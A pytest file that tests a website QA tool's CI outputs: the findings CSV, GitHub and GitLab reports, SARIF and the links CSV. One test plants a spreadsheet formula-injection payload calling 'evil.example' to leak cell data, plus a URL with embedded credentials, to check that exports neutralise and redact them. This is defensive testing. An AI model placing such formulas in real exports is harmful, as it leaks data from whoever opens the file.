"""The machine-readable CI outputs of a run: findings.csv, GitHub Actions annotations and job summary, the GitLab
Code Quality report. One real audit of the demo site (a realistic site with problems), one of a clean page."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import jsonschema
import pytest

from qa.demo.server import serve
from qa.judge.judgement import load_run
from qa.report import findings_csv
from tests.conftest import SITES, QARun, run_qa

FAST = ("--browser", "chromium", "--viewport", "desktop")
SEVERITIES = ("info", "minor", "major", "critical", "blocker")
ACCEPTED = """\
accepted:
  - {rule: color-contrast, url: /business-environment.html, reason: brand grey until the redesign, owner: web team,
     expires: 2099-12-31}
"""


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> tuple[QARun, Path]:
    out = tmp_path_factory.mktemp("ci-demo")
    summary = out / "step-summary.md"
    summary.write_text("## an earlier step\n", encoding="utf-8")
    accepted = out / "accepted.yaml"
    accepted.write_text(ACCEPTED, encoding="utf-8")
    env = {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary)}
    with serve() as url:
        return run_qa("audit", url, *FAST, "--accepted", str(accepted), out=out, env=env), summary


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> QARun:
    out = tmp_path_factory.mktemp("ci-clean")
    with serve(SITES / "clean") as url:
        return run_qa("audit", url + "index.html", *FAST, "--only", "a11y", out=out, env={"GITHUB_ACTIONS": "true"})


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(raw.decode("utf-8-sig").splitlines(keepends=True)))


def annotations(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("::")]


def test_csv_has_one_row_per_finding_in_the_run_language(demo) -> None:
    run, _ = demo
    results = run.results
    rows = read_csv(run.run_dir / "findings.csv")
    assert len(rows) == len(results["findings"]) > 10
    assert [r["指摘ID"] for r in rows] == [f["id"] for f in results["findings"]]
    failing = set(results["judgement"]["gate"]["failing"])
    assert {r["指摘ID"] for r in rows if r["ゲート"] == "不合格の要因"} == failing and failing
    contrast = next(r for r in rows if r["ルール"] == "color-contrast")
    assert contrast["ページURL"].endswith("/business-environment.html")
    assert contrast["ブラウザ"] == "chromium" and contrast["ビューポート"] == "desktop"
    assert contrast["結果"] == "違反" and contrast["達成基準"] == "1.4.3" and contrast["影響度"] == "深刻"
    assert "コントラスト比" in contrast["メッセージ"] and contrast["チェック"] == "axe"
    assert contrast["参考URL"].startswith("https://") and contrast["セレクタ"]
    assert {r["結果"] for r in rows} == {"違反", "要確認"}
    assert contrast["ゲート"] == "許容済み (accepted.yaml)" and contrast["指摘ID"] not in failing


def test_csv_cells_cannot_become_formulas_nor_leak_secrets(demo, tmp_path: Path) -> None:
    run, _ = demo
    results = load_run(run.run_dir)
    hostile = results.findings[0]
    hostile.target = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    hostile.url = "https://user:hunter22@site.example/page?token=s3cr3tvalue&x=1"
    hostile.message = "@SUM(1+1)"
    findings_csv.render(results, tmp_path)
    text = (tmp_path / "findings.csv").read_text(encoding="utf-8-sig")
    row = read_csv(tmp_path / "findings.csv")[0]
    assert row["セレクタ"].startswith("'=") and row["ページURL"] == "https://***@site.example/page?token=***&x=1"
    assert "hunter22" not in text and "s3cr3tvalue" not in text
    assert not any(cell.startswith(("=", "+", "@")) for r in read_csv(tmp_path / "findings.csv") for cell in r.values())


def test_audit_under_github_actions_prints_annotations_and_the_job_summary(demo) -> None:
    run, summary = demo
    assert run.code == 1, run.stderr  # the demo site fails the default gate
    printed = annotations(run.stdout)
    assert printed == annotations((run.run_dir / "github-annotations.txt").read_text(encoding="utf-8"))
    levels = [line.split(" ", 1)[0] for line in printed]
    for level in ("::error", "::warning", "::notice"):
        assert levels.count(level) <= 10  # what GitHub shows of one level per step
    failing_rules = {
        f["rule"] for f in run.results["findings"] if f["id"] in set(run.results["judgement"]["gate"]["failing"])
    }
    errors = [line for line in printed[:-1] if line.startswith("::error")]
    error_rules = {line.split("title=", 1)[1].split("::")[0].split(" ")[0] for line in errors}
    assert failing_rules == error_rules  # errors are exactly the rules failing the gate (8: all shown)
    assert printed[-1].startswith("::error title=qa gate::gate FAILED")
    link_name = next(line for line in printed if "title=link-name" in line)
    assert "title=link-name (SC 2.4.4%2C 4.1.2)::" in link_name  # property escaping: a comma would end the title
    text = summary.read_text(encoding="utf-8")
    assert text.startswith("## an earlier step\n")  # appended, as GitHub expects of every step
    assert "❌ ゲート不合格" in text and "| ルール | 達成基準 | 指摘数 | ページ数 |" in text


def test_gate_prints_annotations_on_request_limited_with_a_summary_line(demo) -> None:
    run, _ = demo
    plain = run_qa("gate", str(run.run_dir), env={"GITHUB_ACTIONS": ""})
    assert plain.code == 1 and "::" not in plain.stdout
    relaxed = run_qa("gate", str(run.run_dir), "--max", "a11y-violations=100", "--annotations")
    assert relaxed.code == 0, relaxed.stdout
    printed = annotations(relaxed.stdout)
    warnings = [line for line in printed if line.startswith("::warning")]
    assert not any(line.startswith("::error") for line in printed)
    assert len(warnings) == 10  # the demo site has more violating rules than GitHub shows
    assert "::notice title=qa gate::gate passed:" in printed[-1] and "not shown" in printed[-1]


def test_job_summary_that_cannot_be_written_is_a_warning(demo, tmp_path: Path) -> None:
    run, _ = demo
    gate = run_qa("gate", str(run.run_dir), env={"GITHUB_STEP_SUMMARY": str(tmp_path)})  # a folder
    assert gate.code == 1
    assert "qa: warning: cannot write the job summary" in gate.stderr and "Traceback" not in gate.stderr


def test_gitlab_code_quality_report_follows_the_documented_format(demo) -> None:
    run, _ = demo
    results = run.results
    issues = json.loads((run.run_dir / "gl-code-quality-report.json").read_text(encoding="utf-8"))
    assert len(issues) == sum(1 for f in results["findings"] if not f["details"].get("accepted")) > 10
    for issue in issues:
        assert isinstance(issue["description"], str) and issue["description"]
        assert issue["check_name"].startswith("qa-suite/") and issue["severity"] in SEVERITIES
        assert issue["location"]["path"].startswith("http://127.0.0.1:") and issue["location"]["lines"]["begin"] == 1
    assert len({i["fingerprint"] for i in issues}) == len(issues)
    by_rule = {i["check_name"].rsplit("/", 1)[1]: i for i in issues}
    assert by_rule["image-alt"]["severity"] == "critical"  # axe impact critical
    failing = set(results["judgement"]["gate"]["failing"])
    counted = [f for f in results["findings"] if not f["details"].get("accepted")]
    ranks = [i["severity"] for i, f in zip(issues, counted, strict=True) if f["id"] in failing]
    assert ranks and all(SEVERITIES.index(r) >= SEVERITIES.index("major") for r in ranks)
    # Stable between runs: the fingerprint follows the finding's id, not the run.
    again = run_qa("report", str(run.run_dir))
    assert again.code == 0
    assert json.loads((run.run_dir / "gl-code-quality-report.json").read_text(encoding="utf-8")) == issues


def test_clean_page_has_no_violation_anywhere(clean) -> None:
    assert clean.code == 0, clean.stdout + clean.stderr
    rows = read_csv(clean.run_dir / "findings.csv")
    assert len(rows) == len(clean.results["findings"])
    assert all(r["結果"] != "違反" for r in rows)
    issues = json.loads((clean.run_dir / "gl-code-quality-report.json").read_text(encoding="utf-8"))
    assert all(i["severity"] == "info" for i in issues)
    printed = annotations(clean.stdout)
    assert not any(line.startswith(("::error", "::warning")) for line in printed)
    assert printed[-1].startswith("::notice title=qa gate::gate passed")


def test_results_json_of_real_runs_validates_against_the_published_schema(demo, clean) -> None:
    schema = json.loads((Path(__file__).parent.parent / "docs/schema/results.schema.json").read_text(encoding="utf-8"))
    validator = jsonschema.Draft202012Validator(schema)
    for run in (demo[0], clean):
        results = run.results
        assert [e.message for e in validator.iter_errors(results)] == []
        assert results["findings"] and results["pages"]  # the schema was tried on real content
    broken = json.loads(json.dumps(demo[0].results))
    broken["findings"][0]["sc"] = "1.4.3"  # a list in the model
    del broken["pages"][0]["url"]
    assert len(list(validator.iter_errors(broken))) == 2


def test_sarif_log_for_code_scanning(demo) -> None:
    run, _ = demo
    results = run.results
    log = json.loads((run.run_dir / "qa.sarif").read_text(encoding="utf-8"))
    assert log["version"] == "2.1.0" and log["$schema"].endswith("sarif-schema-2.1.0.json")
    (sarif_run,) = log["runs"]
    rules = sarif_run["tool"]["driver"]["rules"]
    assert sarif_run["tool"]["driver"]["name"] == "qa-suite" and len({r["id"] for r in rules}) == len(rules)
    found = sarif_run["results"]
    assert len(found) == len(results["findings"])
    failing = set(results["judgement"]["gate"]["failing"])
    for result, finding in zip(found, results["findings"], strict=True):
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"] == finding["rule"]
        assert result["partialFingerprints"]["qaFindingId/v1"] == finding["id"]
        expected = (
            "error" if finding["id"] in failing else "note" if finding["outcome"] == "needs-review" else "warning"
        )
        assert result["level"] == expected and result["message"]["text"]
        location = result["locations"][0]["physicalLocation"]
        assert location["artifactLocation"]["uri"] == finding["url"] and location["region"]["startLine"] == 1
        assert ("suppressions" in result) == bool(finding["details"].get("accepted"))
    suppressed = [r for r in found if "suppressions" in r]
    assert len(suppressed) == 1 and "brand grey" in suppressed[0]["suppressions"][0]["justification"]
    assert sarif_run["invocations"][0]["executionSuccessful"] is True


def test_links_csv_agrees_with_the_link_check(demo, clean) -> None:
    run, _ = demo
    results = run.results
    rows = read_csv(run.run_dir / "links.csv")
    assert len(rows) == results["link_check"]["links"] == len(results["links"])
    broken = [r for r in rows if r["結果"] == "リンク切れ"]
    assert len(broken) == results["link_check"]["counts"]["broken"] > 0
    pdf = next(r for r in broken if r["リンク先"].endswith("/downloads/subsidy-guide.pdf"))
    assert pdf["ステータス"] == "404" and pdf["掲載ページ"].endswith("/incentives.html") and pdf["内部/外部"] == "内部"
    assert not (clean.run_dir / "links.csv").exists()  # --only a11y: no link check, no file claiming one
